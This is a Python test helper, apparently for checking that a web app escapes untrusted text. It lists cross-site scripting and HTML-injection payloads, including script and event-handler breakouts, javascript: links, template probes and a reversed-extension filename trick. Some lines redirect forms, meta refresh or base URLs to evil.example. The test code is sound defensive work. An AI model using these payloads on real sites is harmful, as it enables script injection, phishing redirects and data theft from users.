"""What a browser makes of a page of ours, for tests of texts that would like to be more than text."""

from html.parser import HTMLParser
from typing import Final

# What breaks out of an element, an attribute, a comment or a template, where somebody forgot to escape.
PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)",
    "<a href='javascript:alert(1)'>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "</p></form><form action=https://evil.example>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "${style} $title $$ {{7*7}} %s {0}",
    "\u202egnp.exe",
)


class Seen(HTMLParser):
    """Tags in order, attributes of each, and all text."""

    def __init__(self, page: bytes) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(page.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    @property
    def actions(self) -> list[str | None]:
        return [attributes["action"] for tag, attributes in self.elements if tag == "form"]

    @property
    def preview(self) -> dict[str, str | None]:
        """What apps read of it: the contents of its meta tags by name."""
        return {
            attributes.get("property") or attributes.get("name") or "": attributes["content"]
            for tag, attributes in self.elements
            if tag == "meta" and "content" in attributes
        }
